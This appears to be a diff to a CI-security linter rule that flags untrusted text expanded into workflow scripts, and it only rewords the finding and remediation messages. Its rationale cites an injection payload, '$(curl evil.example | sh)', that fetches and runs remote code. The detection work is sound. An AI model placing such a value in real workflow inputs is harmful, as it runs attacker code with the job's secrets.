@@ -30,11 +30,11 @@ const judgeFlow = (placed: PlacedStep, flow: Flow, followed = false): Finding | 
   const { path, workflow: owner, job, step } = placed;
   const at = { path, line: flow.line, column: flow.column };
   const text = freeText(flow);
-  if (text) return { message: `${text} is put into a script, so its text runs as code.`, at };
+  if (text) return { message: `${text} is expanded inside a script, so its text runs as code.`, at };
   const input = inputName(flow);
   const triggers = owner?.triggers.filter(({ textInputs }) => textInputs.some((name) => name.toLowerCase() === input)) ?? [];
   if (input !== undefined && (owner ? triggers.length > 0 : true))
-    return { message: `The input "${input}" is put into a script, so its text runs as code.`, at, severity: 'medium' };
+    return { message: `The input "${input}" is expanded inside a script, so its text runs as code.`, at, severity: 'medium' };
   const [context, name] = flow.path;
   if (context !== 'env' || name === undefined || followed) return undefined;
   const setting = [step.env, job?.env ?? [], owner?.env ?? []].flat().find((each) => each.name.toLowerCase() === name);
@@ -47,7 +47,7 @@ export default defineRule({
   title: 'Untrusted text reaches scripts only through variables',
   severity: 'high',
   rationale: 'An expression is put into the script before the shell starts. A title such as $(curl evil.example | sh) then runs with the token and the secrets of the job.',
-  remediation: 'Set the value as an environment variable of the step (env: TITLE: ${{ … }}) and write "$TITLE" in the script.',
+  remediation: 'Pass the value in an environment variable of the step (env: TITLE: ${{ … }}) and write "$TITLE" in the script.',
   practices: ['ci/no-template-injection'],
   references: [
     { standard: 'OSPS Baseline', control: 'OSPS-BR-01.01', url: 'https://baseline.openssf.org/' },
